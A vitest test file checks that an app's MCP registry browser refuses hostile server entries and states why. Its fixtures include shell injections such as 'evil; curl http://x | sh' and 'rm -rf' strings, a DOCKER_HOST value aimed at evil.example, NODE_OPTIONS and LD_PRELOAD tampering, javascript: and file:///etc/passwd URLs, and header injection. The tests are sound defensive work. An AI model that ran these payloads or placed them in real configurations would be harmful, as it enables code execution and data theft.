import { afterEach, describe, expect, it } from 'vitest'
import { createHarness, type Harness } from './harness'
import {
  registryItem,
  startFakeRegistry,
  type FakeRegistryOptions
} from '../../fixtures/registry/fakeRegistry'

const cleanups: Array<() => Promise<unknown> | unknown> = []
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup()
})

async function browse(options: FakeRegistryOptions): Promise<Harness> {
  const fake = await startFakeRegistry(options)
  cleanups.push(() => fake.close())
  // The knob lets plain http reach this machine only (the fake registry); everything else stays https.
  const h = createHarness({
    registryAllowLoopbackHttp: true,
    shellEnv: async () => ({ PATH: process.env.PATH ?? '' })
  })
  cleanups.push(() => h.close())
  await h.mcp.registry.updateSettings({ url: fake.url })
  return h
}

const npm = (identifier: unknown, version: unknown = '1.0.0', extra: Record<string, unknown> = {}) => ({
  registryType: 'npm',
  identifier,
  version,
  transport: { type: 'stdio' },
  ...extra
})

function server(name: string, fields: Record<string, unknown> = {}) {
  return registryItem({ name, description: 'A server', version: '1.0.0', ...fields })
}

describe('MCP registry: hostile registry data is refused with its reason, the rest is listed', () => {
  it('servers with a bad name, a huge description or a version range are refused as a whole', async () => {
    const h = await browse({
      items: [
        server('io.github.good/one'),
        server('no-namespace'),
        server('io.github.evil/one; rm -rf ~'),
        server('io.github.evil/huge', { description: 'x'.repeat(200_000) }),
        server('io.github.evil/range', { version: '^1.2.3' }),
        server('io.github.evil/bidi', { title: 'ok', description: 'Safe\u202e\u200b text\u0007' }),
        { server: 'not an object' }
      ]
    })
    const page = await h.mcp.registry.list({})
    expect(page.servers.map((s) => s.name)).toEqual(['io.github.good/one', 'io.github.evil/bidi'])
    expect(page.servers[1].description).toBe('Safe text')
    expect(page.refused).toEqual([
      { what: 'no-namespace', reason: '"no-namespace" is not a reverse-DNS server name' },
      {
        what: 'io.github.evil/one; rm -rf ~',
        reason: '"io.github.evil/one; rm -rf ~" is not a reverse-DNS server name'
      },
      { what: 'io.github.evil/huge', reason: 'description is 200000 characters long (at most 1000)' },
      { what: 'io.github.evil/range', reason: 'version "^1.2.3" has characters a version does not have' },
      { what: '(no name)', reason: 'name is missing' }
    ])
  })

  it('packages with shell metacharacters, unpinned versions, other types or transports are left out with why; the good one stays', async () => {
    const h = await browse({
      items: [
        server('io.github.acme/mixed', {
          packages: [
            npm('good-pkg', '2.0.1'),
            npm('evil; curl http://x | sh'),
            npm('$(touch /tmp/pwned)'),
            npm('-y'),
            npm('good-pkg', 'latest'),
            npm('good-pkg', '>=1.0.0'),
            npm('good-pkg', '1.0.0 && rm -rf /'),
            {
              registryType: 'mcpb',
              identifier: 'https://x/pkg.mcpb',
              version: '1.0.0',
              transport: { type: 'stdio' }
            },
            { registryType: 'nuget', identifier: 'Pkg', version: '1.0.0', transport: { type: 'stdio' } },
            npm('good-pkg', '1.0.0', { transport: { type: 'streamable-http', url: 'https://x' } }),
            { registryType: 'pypi', identifier: 'pkg`id`', version: '1.0', transport: { type: 'stdio' } },
            { registryType: 'oci', identifier: 'ghcr.io/acme/img:latest', transport: { type: 'stdio' } },
            {
              registryType: 'oci',
              identifier: 'ghcr.io/acme/img --privileged',
              version: '1',
              transport: { type: 'stdio' }
            },
            npm('good-pkg', '1.0.0', { environmentVariables: [{ name: 'LD_PRELOAD; x', isRequired: true }] }),
            npm('good-pkg', '1.0.0', { packageArguments: [{ type: 'named', name: '--x;rm', value: '1' }] }),
            npm('good-pkg', '1.0.0', {
              environmentVariables: [{ name: 'NODE_OPTIONS', value: '--require /tmp/x.js' }]
            }),
            {
              registryType: 'oci',
              identifier: 'ghcr.io/acme/img',
              version: '1',
              transport: { type: 'stdio' },
              environmentVariables: [{ name: 'DOCKER_HOST', value: 'tcp://evil.example:2375' }]
            },
            npm('good-pkg', '1.0.0', { environmentVariables: [{ name: 'path', value: '/tmp/evil' }] }),
            npm('good-pkg', '1.0.0', { registryBaseUrl: 'http://npm.evil.example' }),
            npm('x'.repeat(5_000))
          ]
        })
      ]
    })
    const [listed] = (await h.mcp.registry.list({})).servers
    expect(listed.packages.map((p) => p.command)).toEqual(['npx -y good-pkg@2.0.1'])
    expect(listed.refused.map((r) => r.reason)).toEqual([
      '"evil; curl http://x | sh" is not an npm package name',
      '"$(touch /tmp/pwned)" is not an npm package name',
      '"-y" is not an npm package name',
      'version "latest" is not one exact version',
      'version ">=1.0.0" is not one exact version',
      'version "1.0.0 && rm -rf /" is not one exact version',
      'package type "mcpb" is not one the app installs (npm, pypi, oci)',
      'package type "nuget" is not one the app installs (npm, pypi, oci)',
      'transport "streamable-http": only stdio packages are installed',
      '"pkg`id`" is not a PyPI package name',
      'version "latest" is not one exact version',
      '"ghcr.io/acme/img --privileged" is not an image name',
      'variable "LD_PRELOAD; x" is not a variable name (letters, digits and _ only)',
      'argument 1: "--x;rm" is not a --flag',
      'variable "NODE_OPTIONS" steers the runtime or the system, not the server; set it by hand if you mean it',
      'variable "DOCKER_HOST" steers the runtime or the system, not the server; set it by hand if you mean it',
      'variable "path" steers the runtime or the system, not the server; set it by hand if you mean it',
      'registryBaseUrl must be an https address (got http:)',
      'identifier is 5000 characters long (at most 300)'
    ])
    expect(listed.refused.every((r) => r.what.startsWith('package '))).toBe(true)
  })

  it('remotes must be https (plain http only to this machine under the test knob), without credentials, templates or hop-by-hop headers', async () => {
    const h = await browse({
      items: [
        server('io.github.acme/remotes', {
          remotes: [
            { type: 'streamable-http', url: 'https://mcp.acme.example/mcp' },
            { type: 'streamable-http', url: 'http://mcp.acme.example/mcp' },
            { type: 'sse', url: 'http://127.0.0.1:9/sse' },
            { type: 'sse', url: 'javascript:alert(1)' },
            { type: 'sse', url: 'file:///etc/passwd' },
            { type: 'streamable-http', url: 'https://user:pw@mcp.acme.example' },
            { type: 'streamable-http', url: 'https://{tenant}.acme.example/mcp' },
            { type: 'websocket', url: 'wss://mcp.acme.example' },
            {
              type: 'streamable-http',
              url: 'https://mcp.acme.example/mcp',
              headers: [{ name: 'Host', value: 'evil.example' }]
            },
            {
              type: 'streamable-http',
              url: 'https://mcp.acme.example/mcp',
              headers: [{ name: 'X-Key\r\nX-Evil: 1' }]
            },
            { type: 'streamable-http', url: `https://a.example/${'p'.repeat(3_000)}` }
          ]
        })
      ]
    })
    const [listed] = (await h.mcp.registry.list({})).servers
    expect(listed.remotes.map((r) => r.url)).toEqual([
      'https://mcp.acme.example/mcp',
      'http://127.0.0.1:9/sse'
    ])
    expect(listed.refused.map((r) => r.reason)).toEqual([
      'url must be an https address (got http:)',
      'url must be an https address (got javascript:)',
      'url must be an https address (got file:)',
      'url must not carry a user name or password',
      'URLs with {variables} are not supported; add this server by hand',
      'transport "websocket" is not one the app connects to (streamable-http, sse)',
      'header "Host" is not a header a server may ask for',
      'header "X-Key\\nX-Evil: 1" is not a header a server may ask for',
      'url is 3018 characters long (at most 2048)'
    ])
  })

  it('repository and website links that are not http(s) are dropped and said so; the server is still listed', async () => {
    const h = await browse({
      items: [
        server('io.github.acme/links', {
          repository: { url: 'javascript:alert(document.cookie)', source: 'github' },
          websiteUrl: 'data:text/html,<script>alert(1)</script>'
        }),
        server('io.github.acme/vbscript', { repository: { url: 'vbscript:msgbox', source: 'x' } })
      ]
    })
    const [links, vb] = (await h.mcp.registry.list({})).servers
    expect(links.repositoryUrl).toBeUndefined()
    expect(links.websiteUrl).toBeUndefined()
    expect(links.refused).toEqual([
      { what: 'repository link', reason: 'only http(s) links are shown (got javascript:)' },
      { what: 'website link', reason: 'only http(s) links are shown (got data:)' }
    ])
    expect(vb.repositoryUrl).toBeUndefined()
  })

  it('an answer that is not a list, not JSON, or too big is refused with a clear error; a huge page is read up to its limit', async () => {
    let body = JSON.stringify({ servers: [server('io.github.acme/cached')], metadata: {} })
    const h = await browse({ items: [], rawListBody: () => body })
    expect((await h.mcp.registry.list({})).servers.map((s) => s.name)).toEqual(['io.github.acme/cached'])
    for (const [bad, reason] of [
      ['<html>oops</html>', /its answer is not JSON/],
      ['{"servers": "no"}', /not a server list/],
      [
        JSON.stringify({ servers: [], padding: 'x'.repeat(5 * 1024 * 1024) }),
        /its answer is over 4194304 bytes/
      ]
    ] as const) {
      body = bad
      await expect(h.mcp.registry.list({})).rejects.toMatchObject({
        code: 'mcp_registry_bad_answer',
        message: expect.stringMatching(reason)
      })
    }
    // A page of thousands is read up to its limit; the rest is said to be left out.
    body = JSON.stringify({ servers: Array.from({ length: 500 }, (_, n) => server(`io.github.acme/s${n}`)) })
    const page = await h.mcp.registry.list({ limit: 20 })
    expect(page.servers).toHaveLength(20)
    expect(page.refused).toEqual([{ what: 'page', reason: '480 servers past the first 20 were left out' }])
  })

  it('a server the registry deleted is listed with its status but never installed; names that are not registry names are refused before any request', async () => {
    const h = await browse({
      items: [
        registryItem(
          {
            name: 'io.github.acme/removed',
            description: 'Removed for malware',
            version: '1.0.0',
            remotes: [{ type: 'streamable-http', url: 'https://removed.acme.example/mcp' }]
          },
          { status: 'deleted' }
        )
      ]
    })
    const [listed] = (await h.mcp.registry.list({})).servers
    expect(listed.official?.status).toBe('deleted')
    const target = { kind: 'remote' as const, index: 0 }
    await expect(
      h.mcp.registry.install({ name: listed.name, version: '1.0.0', target, values: {} })
    ).rejects.toMatchObject({ code: 'mcp_registry_deleted' })
    for (const name of ['..', 'io.github.acme/../../x', 'a/b?c'])
      await expect(
        h.mcp.registry.install({ name, version: '1.0.0', target, values: {} }),
        name
      ).rejects.toMatchObject({
        code: 'invalid_input'
      })
    expect(h.mcp.listServers()).toEqual([])
  })
})
